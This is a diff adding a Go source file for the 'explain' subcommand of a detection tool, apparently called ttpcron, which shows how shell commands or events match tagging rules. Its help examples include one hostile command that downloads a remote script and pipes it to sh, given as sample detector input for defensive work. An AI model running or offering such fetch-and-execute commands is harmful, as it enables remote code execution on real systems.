@@ -1,0 +1,220 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"strings"
+
+	"github.com/ttpcron/ttpcron"
+	"github.com/ttpcron/ttpcron/tagger"
+)
+
+func (a *app) explainCommand() *command {
+	fs := a.flags()
+	asJSON := fs.Bool("json", false, "print one JSON object")
+	event := fs.Bool("event", false, "the argument is an event in the native JSON form, of any kind")
+	return &command{
+		name: "explain", args: "COMMAND", short: "show which rules match a command, and why", fs: fs,
+		text: `Judges one shell command as a run would: how it is taken apart, which rules match,
+on which part of it, and what they emit. Several arguments are joined by blanks;
+- reads the command from standard input. Works without a store; where there is
+one, the states of its rules are applied.`,
+		examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
+echo 'cat /proc/cpuinfo' | ttpcron explain -
+ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"user_agent":"curl/8.5.0"}}'`,
+		exits: []int{exitFailed, exitInterrupted},
+		run: func(ctx context.Context, args []string) error {
+			e, err := a.eventToExplain(args, *event)
+			if err != nil {
+				return err
+			}
+			rs, report, err := a.rulesForPeople(ctx)
+			if err != nil {
+				return err
+			}
+			a.warnRules(report)
+			x := rs.Explain(e)
+			if *asJSON {
+				return a.explainJSON(x)
+			}
+			return a.explainText(x)
+		},
+	}
+}
+
+// eventToExplain makes an event of the arguments.
+func (a *app) eventToExplain(args []string, native bool) (ttpcron.Event, error) {
+	if len(args) == 0 {
+		return ttpcron.Event{}, &usageError{"explain needs a command", `quote it: ttpcron explain "uname -a"`}
+	}
+	text := strings.Join(args, " ")
+	if text == "-" {
+		b, err := io.ReadAll(io.LimitReader(a.stdin, ttpcron.MaxText+1))
+		if err != nil {
+			return ttpcron.Event{}, err
+		}
+		text = strings.TrimSuffix(string(b), "\n")
+	}
+	if len(text) > ttpcron.MaxText {
+		return ttpcron.Event{}, fmt.Errorf("the command is longer than %d bytes", ttpcron.MaxText)
+	}
+	e := ttpcron.Event{
+		Kind: ttpcron.Command, ID: "explain", Time: a.now().UTC(), AttackerIP: "192.0.2.1",
+		Payload: ttpcron.TextPayload("command_text", text),
+	}
+	if !native {
+		return e, nil
+	}
+	if err := json.Unmarshal([]byte(text), &e); err != nil {
+		return e, usagef("--event: %v", err)
+	}
+	if err := e.Validate(); err != nil {
+		return e, usagef("--event: %v", err)
+	}
+	if e.ID == "" {
+		e.ID = e.ContentID()
+	}
+	return e, nil
+}
+
+func (a *app) explainText(x tagger.Explanation) error {
+	w, t := a.stdout, a.out
+	for _, l := range x.Layers {
+		fmt.Fprintf(w, "%s %s\n", t.paint(dim, "decoded ("+clean(l.Method)+")"), t.cut(clean(l.Text), 400))
+	}
+	if len(x.Signals) > 0 {
+		fmt.Fprintln(w, t.paint(bold, "derived from the trigger"))
+		for _, f := range x.Signals {
+			value := f.Text
+			if f.Raw != nil {
+				value = string(f.Raw)
+			}
+			fmt.Fprintf(w, "  %s %s\n", clean(f.Name), t.cut(clean(value), 200))
+		}
+		fmt.Fprintln(w)
+	}
+	if len(x.Commands) > 1 || len(x.Layers) > 0 {
+		fmt.Fprintln(w, t.paint(bold, plural(len(x.Commands), "simple command", "simple commands")))
+		for i, c := range x.Commands {
+			fmt.Fprintf(w, "  %2d  %s%s\n", i+1, strings.Repeat("  ", min(c.Depth, 8)), t.cut(clean(c.Line), 400))
+		}
+		fmt.Fprintln(w)
+	}
+	for i, j := range x.Rules {
+		if i > 0 {
+			fmt.Fprintln(w)
+		}
+		a.judgement(w, x, j)
+	}
+	switch {
+	case x.Verdict.Skipped:
+		fmt.Fprintln(w, "No rule looks at such an event: it has no text.")
+	case len(x.Rules) == 0:
+		fmt.Fprintln(w, "No rule matches.")
+	}
+	if x.Verdict.Bounded {
+		fmt.Fprintln(w, "\nA rule met a limit of work or size and did not finish.")
+	}
+	return nil
+}
+
+// judgement prints one rule's finding.
+func (a *app) judgement(w io.Writer, x tagger.Explanation, j tagger.Judgement) {
+	t := a.out
+	fmt.Fprintf(w, "%s  %s\n", t.paint(cyan, clean(j.Rule.ID)), t.paint(bold, clean(j.Rule.Name)))
+	for _, h := range j.Hits {
+		where := ""
+		if h.Command >= 0 && h.Command < len(x.Commands) && len(x.Commands) > 1 {
+			where = fmt.Sprintf(" of command %d", h.Command+1)
+		}
+		fmt.Fprintf(w, "  %s%s %s: %s\n", clean(h.Field), where, clean(h.Test), t.paint(green, t.cut(clean(h.Value), 200)))
+		if line := underline(x.Text, h.Start, h.End, t); line != "" {
+			fmt.Fprint(w, line)
+		}
+	}
+	for i := range j.Tags {
+		tag := &j.Tags[i]
+		fmt.Fprintf(w, "  %s %s %s, %s, confidence %.2f\n", t.paint(yellow, "→"), clean(tag.Technique()), techniqueName(tag.Technique()), tacticName(tag.Tactic), tag.Confidence)
+	}
+	if j.Dropped != "" {
+		fmt.Fprintf(w, "  no tag: %s\n", clean(j.Dropped))
+	}
+}
+
+// underline shows a part of a text with a little of what stands around it.
+func underline(text string, start, end int, t terminal) string {
+	const around = 30
+	if start < 0 || end <= start || end > len(text) {
+		return ""
+	}
+	from, to := max(0, start-around), min(len(text), end+around)
+	before := clean(strings.ToValidUTF8(text[from:start], ""))
+	part := t.cut(clean(text[start:end]), 100)
+	after := clean(strings.ToValidUTF8(text[end:to], ""))
+	if from > 0 {
+		before = "..." + before
+	}
+	if to < len(text) {
+		after += "..."
+	}
+	return fmt.Sprintf("      %s%s%s\n      %s%s\n", before, part, after, strings.Repeat(" ", cells(before)), t.paint(green, strings.Repeat("^", max(1, cells(part)))))
+}
+
+type explanationJSON struct {
+	Signals ttpcron.Payload    `json:"signals"`
+	Text    string             `json:"text"`
+	Layers  []tagger.LayerView `json:"layers"`
+	Lines   []commandJSON      `json:"commands"`
+	Rules   []judgementJSON    `json:"rules"`
+	Tags    []ttpcron.Tag      `json:"tags"`
+	Skipped bool               `json:"skipped"`
+	Bounded bool               `json:"bounded"`
+}
+
+type commandJSON struct {
+	Line    string `json:"line"`
+	Program string `json:"program"`
+	Depth   int    `json:"depth"`
+}
+
+type judgementJSON struct {
+	RuleID  string        `json:"rule_id"`
+	Version int           `json:"rule_version"`
+	Name    string        `json:"name"`
+	Dropped string        `json:"dropped,omitempty"`
+	Hits    []hitJSON     `json:"hits"`
+	Tags    []ttpcron.Tag `json:"tags"`
+}
+
+type hitJSON struct {
+	Field   string `json:"field"`
+	Test    string `json:"test"`
+	Value   string `json:"value"`
+	Command *int   `json:"command"`
+	Start   *int   `json:"start"`
+	End     *int   `json:"end"`
+}
+
+func (a *app) explainJSON(x tagger.Explanation) error {
+	out := explanationJSON{Signals: x.Signals, Text: x.Text, Layers: x.Layers, Tags: x.Tags, Skipped: x.Verdict.Skipped, Bounded: x.Verdict.Bounded}
+	for _, c := range x.Commands {
+		out.Lines = append(out.Lines, commandJSON{c.Line, c.Program, c.Depth})
+	}
+	for _, j := range x.Rules {
+		one := judgementJSON{RuleID: j.Rule.ID, Version: j.Rule.Version, Name: j.Rule.Name, Dropped: j.Dropped, Tags: j.Tags}
+		for _, h := range j.Hits {
+			hit := hitJSON{Field: h.Field, Test: h.Test, Value: h.Value}
+			if h.Command >= 0 {
+				hit.Command = &h.Command
+			}
+			if h.Start >= 0 {
+				hit.Start, hit.End = &h.Start, &h.End
+			}
+			one.Hits = append(one.Hits, hit)
+		}
+		out.Rules = append(out.Rules, one)
+	}
+	return json.NewEncoder(a.stdout).Encode(out)
+}
